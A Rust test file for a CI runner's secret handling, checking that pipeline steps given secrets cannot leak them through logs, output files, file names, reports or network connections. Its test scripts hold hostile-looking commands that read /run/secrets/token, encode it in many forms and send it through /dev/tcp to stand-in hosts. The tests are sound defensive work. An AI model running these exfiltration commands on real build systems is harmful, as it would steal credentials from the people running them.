//! Steps with secrets, through the real holder and the real sandbox: they get the values, and nothing else shows one.
#![expect(clippy::unwrap_used, reason = "test code")]

mod memory;
#[path = "../../../openbao/tests/support/server.rs"]
mod server;
mod stores;
#[path = "../support/mod.rs"]
mod support;

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{LazyLock, Mutex};

use evidence::machine::MachineSigner;
use evidence::receipt::Ending;
use evidence::seal::SealKey;
use evidence::secret_name::SecretName;
use evidence::{Bytes, Id, Moment, Name};
use judge::Lent;
use runner::{
    Budget, Caps, Execution, HeldStep, Holder, Host, Identity, Isolation, Repository, RetainedOutputs,
    Sandbox, Source, StepError, Toolchain, execute, resolve,
};
use sandbox::{Egress, SandboxError};
use support::Project;
use vault::{SealedValue, SecretVersion};
use wire::{LentSecret, LentSecrets};

fn name(text: &str) -> Name {
    text.parse().unwrap()
}

fn secret(text: &str) -> SecretName {
    text.parse().unwrap()
}

/// Listing the host's toolchain takes a second.
static TOOLCHAIN: LazyLock<Toolchain> = LazyLock::new(|| Toolchain::of_host(&[]).unwrap());
const TOKEN: &str = "p\"4ss-w0rd/+of the registry";
/// A step with one secret.
const ONE: &[(&str, &[u8])] = &[("token", TOKEN.as_bytes())];
const INSTALLATION: Id = Id::from_random([1; 16]);
const NONCE: Id = Id::from_random([7; 16]);

fn isolation() -> Sandbox {
    let init = || {
        let mut init = Command::new(env!("CARGO_BIN_EXE_runner-init"));
        init.env_clear();
        init
    };
    let holder = || {
        let mut holder = Command::new(env!("CARGO_BIN_EXE_runner-init"));
        holder.arg("secret-holder").env_clear();
        holder
    };
    let caps = Caps { memory_mib: 8192, ..Caps::default() };
    Sandbox::new(init, Egress::default(), caps).with_holder(holder)
}

/// A value as the server lends it to a holder: its key is wrapped for this installation and work.
fn lent(holder: &Holder, file: &str, value: &[u8], of: (Id, Id)) -> LentSecret {
    lent_by(&holder.key(), file, value, of)
}

fn lent_by(to: &SealKey, file: &str, value: &[u8], (installation, nonce): (Id, Id)) -> LentSecret {
    let (of, mut next) = (secret(&format!("shop/{file}")), 0_u8);
    let mut draw = |bytes: &mut [u8]| {
        next += 1;
        bytes.fill(next);
    };
    let version = SecretVersion::build(of.clone(), 3);
    let (sealed, key) = SealedValue::seal(INSTALLATION, &version, value, &mut draw).unwrap();
    let key = key.wrap(to, &sealed.binding(installation, Some(nonce)).unwrap()).unwrap();
    LentSecret { name: name(file), secret: of, number: 3, sealed: Bytes(sealed.encode().unwrap()), key }
}

/// A run of one step: its script, what it declares, and its secrets.
struct Trial<'a> {
    script: &'a str,
    declares: &'a str,
    values: &'a [(&'a str, &'a [u8])],
    /// Changes what the server lends.
    lends: &'a dyn Fn(&mut LentSecrets, &Holder),
    /// Whether the step is wanted, with its log so far.
    wanted: &'a dyn Fn(&str) -> bool,
}

impl<'a> Trial<'a> {
    fn of(script: &'a str, values: &'a [(&'a str, &'a [u8])]) -> Self {
        Trial { script, declares: "", values, lends: &|_, _| {}, wanted: &|_| true }
    }

    fn run(&self) -> Result<Execution, StepError> {
        self.executed(&self.source())
    }

    /// The commit with the step.
    fn source(&self) -> Source {
        let project = Project::new();
        let secrets: Vec<_> = self
            .values
            .iter()
            .map(|(file, _)| {
                let variable = if *file == "token" { ", env: TOKEN" } else { "" };
                format!("      {file}: {{secret: {file}{variable}}}\n")
            })
            .collect();
        let script: String = self.script.lines().map(|line| format!("      {line}\n")).collect();
        let text = format!(
            "version: 1\nsteps:\n  publish:\n    run: |\n{script}{}    secrets:\n{}",
            self.declares,
            secrets.concat()
        );
        project.write(".countersign/pipeline.yaml", &text);
        project.write("src/file", "of the commit");
        project.commit("first", "signing");
        let head = resolve(&project.path(), "HEAD").unwrap();
        let mut repository = Repository::open(&project.path(), Budget::default()).unwrap();
        Source::fetch(&mut repository, &head).unwrap()
    }

    fn executed(&self, source: &Source) -> Result<Execution, StepError> {
        let within = isolation();
        let holder = Holder::start(within.holder().unwrap()).unwrap();
        let values =
            self.values.iter().map(|(file, value)| lent(&holder, file, value, (INSTALLATION, NONCE)));
        let mut given = LentSecrets { values: values.collect(), ..LentSecrets::default() };
        (self.lends)(&mut given, &holder);
        let leaves = ["out", "tests.xml"].map(str::to_owned);
        let leaves = leaves.into_iter().filter(|path| self.declares.contains(path.as_str())).collect();
        let held = HeldStep::new(&within, holder, (INSTALLATION, NONCE), given, leaves);
        let names = self.values.iter().map(|(file, _)| (name(file), secret(&format!("shop/{file}"))));
        let reach = Some(["127.0.0.1:9".to_owned()].into());
        let lent = Lent { secrets: names.collect(), from: BTreeMap::new(), reach };
        self.held(source, &held, lent, self.wanted)
    }

    /// The step in the isolation of its holder.
    fn held(
        &self,
        source: &Source,
        held: &HeldStep<'_>,
        lent: Lent,
        wanted: &dyn Fn(&str) -> bool,
    ) -> Result<Execution, StepError> {
        let signer = MachineSigner::from_seed([24; 32]).unwrap();
        let identity = Identity {
            installation: INSTALLATION,
            runner: name("runner-1"),
            root: 1,
            signer: &signer,
            project: name("shop"),
            nonce: NONCE,
            verified_ref: None,
            lent,
        };
        let now = || Moment::from_millis(1_800_000_000_000).unwrap();
        let said = Mutex::new(String::new());
        let log = |_, piece: &[u8]| said.lock().unwrap().push_str(&String::from_utf8_lossy(piece));
        let wanted = || wanted(&said.lock().unwrap());
        let host = Host { toolchain: &TOOLCHAIN, isolation: held, now: &now, log: &log, wanted: &wanted };
        execute(&identity, source, &name("publish"), &RetainedOutputs::default(), &host)
    }
}

fn log(done: &Execution) -> String {
    String::from_utf8(done.log.clone()).unwrap()
}

/// The encodings that shells and their neighbours print by themselves.
const TEN: &str = r#"
v=$(cat /run/secrets/token)
test "$v" = "$TOKEN" && echo plain $v
printf %s "$v" | base64
printf 'admin:%s' "$v" | base64 -w0; echo
printf 'ab%s' "$v" | base64 -w 10
printf %s "$v" | base32 -w0; echo
printf %s "$v" | od -An -tx1
printf %s "$v" | od -An -v -tx1 | tr -d ' \n'; echo
printf %s "$v" | rev; echo
printf %s "$v" | fold -w 3
printf %s "$v" | sed 's,\\,\\\\,g; s,",\\",g' ; echo
python3 -c 'import os,urllib.parse as u; print(u.quote(os.environ["TOKEN"], safe=""), u.quote_plus(os.environ["TOKEN"]))' || true
printf %s "$v" >&2; echo >&2
echo done
"#;

#[test]
fn a_step_that_prints_its_secret_in_ten_encodings_shows_none() {
    let values: &[(&str, &[u8])] = &[("token", TOKEN.as_bytes()), ("pin", b"12345")];
    let script = format!("{TEN}\necho made > out");
    let done = Trial { declares: "    outputs: [out]\n", ..Trial::of(&script, values) };
    let done = done.run().unwrap();
    let log = log(&done);
    assert_eq!(done.facts.exit, Ending::Code(0), "{log}");
    assert_eq!(done.outputs.keys().collect::<Vec<_>>(), ["out"]);
    assert!(
        log.starts_with("countersign: secret `pin` has fewer than 6 bytes, so the log does not hide it\n"),
        "{log}"
    );
    assert!(log.contains("plain ***\n") && log.contains("done\n"), "{log}");
    assert!(log.matches("***").count() >= 12, "{log}");
    let solid: String = log.split_whitespace().collect();
    for shown in ["4ss", "w0rd", "registry", "NHNz", "cmVnaXN0", "34737", "yrtsiger", "34 73 73"] {
        assert!(!solid.contains(shown) && !log.contains(shown), "{shown}: {log}");
    }
    let receipt = String::from_utf8_lossy(&done.receipt.encode().unwrap()).into_owned();
    assert!(!receipt.contains("w0rd"));
}

/// Values that leave a step by an output, its name, a link or a report: the step has failed, and nothing of it is kept.
#[test]
fn attack_a_value_that_leaves_by_an_output() {
    let values: &[(&str, &[u8])] = &[("token", TOKEN.as_bytes()), ("other", b"another-secret")];
    let outputs = "    outputs: [out]\n";
    let report = "    reports: [{kind: junit, path: tests.xml}]\n";
    for (what, script, declares, said) in [
        (
            "in a file",
            "mkdir -p out/d; base64 /run/secrets/token > out/d/x",
            outputs,
            "`out/d/x` has the value of secret `token`",
        ),
        ("in one file", "cat /run/secrets/other > out", outputs, "`out` has the value of secret `other`"),
        ("in a name", "mkdir out; touch out/$(cat /run/secrets/other)", outputs, "`out/***` has in its name"),
        (
            "in a link",
            "mkdir out; ln -s $(cat /run/secrets/other) out/x",
            outputs,
            "`out/x` has in its name or target",
        ),
        (
            "in the name of a pipe",
            "mkdir out; mkfifo out/$(cat /run/secrets/other)",
            outputs,
            "`out` cannot be read",
        ),
        (
            "in a report",
            "printf '<testsuite name=\"%s\"><testcase name=\"x\"/></testsuite>' $(cat /run/secrets/other) > tests.xml",
            report,
            "`tests.xml` has the value of secret `other`",
        ),
        (
            "in a report that its reader puts together",
            "printf '<testsuite name=\"x\"><testcase classname=\"x\" name=\"%s\"><failure message=\"%s\"/></testcase></testsuite>' x \
             $(sed 's/s/\\&#115;/g' /run/secrets/other) > tests.xml",
            report,
            "a report of the step, or a name in its receipt, shows the value",
        ),
    ] {
        let done = Trial { declares, ..Trial::of(script, values) }.run().unwrap();
        let log = log(&done);
        assert_eq!(done.facts.exit, Ending::Code(252), "{what}: {log}");
        assert!(log.contains("countersign: secret-in-output: ") && log.contains(said), "{what}: {log}");
        assert!(
            done.outputs.is_empty() && done.reports.is_empty() && done.facts.reports.is_empty(),
            "{what}"
        );
        assert!(!log.contains("another-secret"), "{what}: {log}");
    }
    let script = "mkdir out; echo another secret > out/x; exit 3";
    let done = Trial { declares: outputs, ..Trial::of(script, values) }.run().unwrap();
    assert_eq!((done.facts.exit, done.outputs.len()), (Ending::Code(3), 1), "what is no value stays");
}

/// The server may lend what it likes: only the sealed version of the named secret opens, for this work in this installation.
#[test]
fn attack_values_that_were_swapped_changed_or_lent_for_other_work() {
    type Change = fn(&mut LentSecrets, &Holder);
    let values: &[(&str, &[u8])] = &[("token", TOKEN.as_bytes()), ("other", b"another-secret")];
    let cases: [(&str, Change, &str); 8] = [
        ("nothing changed", |_, _| {}, ""),
        (
            "two values swapped",
            |lent, _| {
                let [a, b] = lent.values.as_mut_slice() else { panic!() };
                std::mem::swap(&mut a.sealed, &mut b.sealed);
                std::mem::swap(&mut a.key, &mut b.key);
            },
            "in its place",
        ),
        (
            "keys swapped",
            |lent, _| {
                let [a, b] = lent.values.as_mut_slice() else { panic!() };
                std::mem::swap(&mut a.key, &mut b.key);
            },
            "does not open",
        ),
        ("another number", |lent, _| lent.values[0].number = 4, "in its place"),
        ("one bit", |lent, _| *lent.values[0].key.bytes.0.last_mut().unwrap() ^= 1, "does not open"),
        ("cut", |lent, _| lent.values[0].sealed.0.truncate(40), "secret `token`: "),
        (
            "lent for other work",
            |lent, holder| {
                lent.values[0] =
                    self::lent(holder, "token", TOKEN.as_bytes(), (INSTALLATION, Id::from_random([8; 16])));
            },
            "does not open",
        ),
        (
            "lent in another installation",
            |lent, holder| {
                lent.values[0] =
                    self::lent(holder, "token", TOKEN.as_bytes(), (Id::from_random([2; 16]), NONCE));
            },
            "does not open",
        ),
    ];
    for (what, change, said) in cases {
        let ran = Trial { lends: &change, ..Trial::of("true", values) }.run();
        match ran {
            Ok(done) => assert!(said.is_empty() && done.facts.passed(), "{what}: {}", log(&done)),
            Err(error) => {
                let error = error.to_string();
                assert!(!said.is_empty() && error.contains(said), "{what}: {error}");
            }
        }
    }
    let missing = |lent: &mut LentSecrets, _: &Holder| drop(lent.values.pop());
    let error = Trial { lends: &missing, ..Trial::of("true", values) }.run().unwrap_err();
    assert!(error.to_string().contains("secret `other` was not lent"), "{error}");
}

#[test]
fn a_value_that_no_variable_can_hold_is_named() {
    let error = Trial::of("true", &[("token", b"with a NUL \0 byte")]).run().unwrap_err();
    assert!(error.to_string().contains("secret `token`: it has a NUL byte"), "{error}");
}

/// A holder that dies takes the step with it, and its end is an error, not a result.
#[test]
fn attack_a_holder_that_is_killed() {
    let pid = Mutex::new(None);
    let kill = |said: &str| {
        if said.contains("begun") {
            let mut pid = pid.lock().unwrap();
            pid.get_or_insert_with(|| {
                let (holder, step) = step_of(std::process::id()).unwrap();
                assert!(Command::new("kill").args(["-9", &holder.to_string()]).status().unwrap().success());
                step
            });
        }
        true
    };
    let trial = Trial::of("echo begun; sleep 1000", ONE);
    let error = Trial { wanted: &kill, ..trial }.run().unwrap_err();
    assert!(matches!(error, StepError::Sandbox(SandboxError::Holder(_))), "{error:?}");
    assert!(error.to_string().contains("was lost: it ended without a result"), "{error}");
    let step = pid.into_inner().unwrap().unwrap();
    // The kernel ends it at once, but not before the runner hears of it.
    while std::path::Path::new(&format!("/proc/{step}/exe")).exists() {
        std::thread::yield_now();
    }
}

/// The process that holds secrets below this one, and a process of its step that sleeps.
fn step_of(own: u32) -> Option<(u32, u32)> {
    let holder = children(own).into_iter().find(|pid| command(*pid).contains("secret-holder"))?;
    let mut open = vec![holder];
    while let Some(pid) = open.pop() {
        if command(pid).starts_with("sleep") {
            return Some((holder, pid));
        }
        open.extend(children(pid));
    }
    None
}

fn command(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default()
}

fn children(pid: u32) -> Vec<u32> {
    let tasks = std::fs::read_dir(format!("/proc/{pid}/task")).into_iter().flatten().flatten();
    let lists = tasks.map(|task| std::fs::read_to_string(task.path().join("children")).unwrap_or_default());
    lists
        .flat_map(|list| list.split_whitespace().filter_map(|pid| pid.parse().ok()).collect::<Vec<_>>())
        .collect()
}

#[test]
fn a_step_that_is_not_wanted_any_more_ends() {
    let trial = Trial::of("echo begun; sleep 1000", ONE);
    let error = Trial { wanted: &|said| !said.contains("begun"), ..trial }.run().unwrap_err();
    assert!(matches!(error, StepError::Sandbox(SandboxError::Unwanted)), "{error:?}");
}

/// A possible beginning of a value is shown while the step runs: nobody waits for the end of a prompt.
#[test]
fn what_may_begin_a_value_is_not_held_until_the_end() {
    let seen = AtomicBool::new(false);
    let look = |said: &str| {
        seen.fetch_or(said.contains("p\"4s"), Ordering::Relaxed);
        !seen.load(Ordering::Relaxed)
    };
    let trial = Trial::of("printf 'p\"4s'; sleep 1000", ONE);
    let error = Trial { wanted: &look, ..trial }.run().unwrap_err();
    assert!(matches!(error, StepError::Sandbox(SandboxError::Unwanted)), "{error:?}");
}

/// Destinations that a step tried are named in its log and receipt, but not the value in them.
#[test]
fn attack_a_value_in_the_name_of_a_host() {
    let script = "exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:} && printf 'CONNECT another-secret.example:443 HTTP/1.1\\r\\n\\r\\n' >&3 \
                  && head -c 12 <&3";
    let script = format!("bash -c {}", shell(script));
    let values: &[(&str, &[u8])] = &[("other", b"another-secret")];
    let done =
        Trial { declares: "    network: ['127.0.0.1:9']\n", ..Trial::of(&script, values) }.run().unwrap();
    let log = log(&done);
    assert!(log.contains("HTTP/1.1 403"), "{log}");
    assert!(log.contains("refused to connect to ***.example:443"), "{log}");
}

/// The grants of the secrets name one destination; the pipeline names two.
#[test]
fn attack_a_step_with_a_secret_reaches_what_no_grant_names() {
    let try_both = "for to in mirror.example:443 127.0.0.1:9; do exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:} && \
                    printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' $to >&3 && head -c 12 <&3; done";
    let script = format!("bash -c {}", shell(try_both));
    let declares = "    network: ['mirror.example:443', '127.0.0.1:9']\n";
    let said = log(&Trial { declares, ..Trial::of(&script, ONE) }.run().unwrap());
    let unnamed = ": it is not among the step's";
    assert!(said.contains("countersign: mirror.example:443 is out of reach, because the grants"), "{said}");
    assert!(said.contains(&format!("refused to connect to mirror.example:443{unnamed}")), "{said}");
    let granted = said.lines().find(|line| line.contains("refused to connect to 127.0.0.1:9"));
    assert!(
        granted.is_some_and(|line| !line.contains(unnamed)),
        "the operator refuses the loopback, not the grant: {said}"
    );
    let declares = "    network: ['mirror.example:443']\n";
    let done = Trial { declares, ..Trial::of("test -z \"${http_proxy-}\"", ONE) }.run().unwrap();
    assert!(done.facts.passed(), "no network is left: {}", log(&done));
}

/// The grants of the secrets name one destination; the pipeline connects to two of them directly.
#[test]
fn attack_a_step_with_a_secret_connects_where_no_grant_leads() {
    let try_both = "for to in mirror.example/443 127.0.0.1/9; do exec 3<>/dev/tcp/$to && echo open $to || echo closed $to; done";
    let script = format!("bash -c {}; cat /etc/hosts", shell(try_both));
    let declares = "    connect: ['mirror.example:443', '127.0.0.1:9']\n";
    let said = log(&Trial { declares, ..Trial::of(&script, ONE) }.run().unwrap());
    assert!(said.contains("countersign: mirror.example:443 is out of reach, because the grants"), "{said}");
    assert!(said.contains("closed mirror.example/443") && said.contains("open 127.0.0.1/9"), "{said}");
    assert!(!said.contains("127.1.0.1 mirror.example"), "its name leads nowhere: {said}");
    assert!(
        said.contains("refused to connect to 127.0.0.1:9: ") && said.contains("is the loopback"),
        "the operator refuses the loopback: {said}"
    );
}

fn shell(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[test]
fn code_limits_and_both_streams_are_as_without_secrets() {
    let script = "cat src/file; echo; for n in 1 2 3; do echo out $n; sleep 0.2; echo err $n >&2; sleep 0.2; done; exit 9";
    let done = Trial::of(script, ONE).run().unwrap();
    assert_eq!(done.facts.exit, Ending::Code(9));
    assert_eq!(log(&done), "of the commit\nout 1\nerr 1\nout 2\nerr 2\nout 3\nerr 3\n");
    let limits = "    limits: {time-seconds: 1}\n";
    let done = Trial { declares: limits, ..Trial::of("sleep 1000", ONE) }.run().unwrap();
    assert_eq!(done.facts.exit, Ending::TimedOut);
}

/// The clocks differ, and the server lends: the claim has told it all the same, and the process for its answer has ended before.
#[test]
fn attack_a_server_lends_outside_the_hours_all_the_same() {
    let asked = Mutex::new(Vec::new());
    let lend = |wanted: &wire::WantedSecrets| {
        let own = "/proc/thread-self/children";
        let children = std::fs::read_to_string(own).unwrap_or_default();
        asked.lock().unwrap().push((wanted.secrets.clone(), children));
        let value = lent_by(&wanted.key, "token", TOKEN.as_bytes(), (INSTALLATION, NONCE));
        Ok(Some(LentSecrets { values: vec![value], ..LentSecrets::default() }))
    };
    let secrets = [(name("token"), secret("shop/token"))].into();
    runner::ask_in_vain(&secrets, &isolation(), &lend);
    let wanted = wire::WantedSecret { name: name("token"), secret: secret("shop/token") };
    assert_eq!(asked.into_inner().unwrap(), [(vec![wanted], String::new())]);
}
